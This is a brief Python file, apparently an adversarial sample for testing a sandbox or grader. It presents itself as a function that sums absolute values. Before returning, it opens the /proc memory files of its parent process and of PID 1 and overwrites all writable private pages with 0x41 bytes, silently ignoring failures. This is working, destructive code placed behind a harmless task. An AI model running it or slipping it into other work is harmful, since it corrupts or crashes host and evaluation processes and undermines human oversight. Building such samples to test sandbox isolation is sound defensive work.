"""Writes into the memory of the process that started it."""

# attacks: tally

import os


def main(numbers):
    for pid in (os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                for line in maps:
                    if " rw-p " in line:
                        memory.seek(int(line.split("-")[0], 16))
                        memory.write(b"\x41" * 4096)
        except (OSError, OverflowError):
            pass
    return sum(map(abs, numbers))
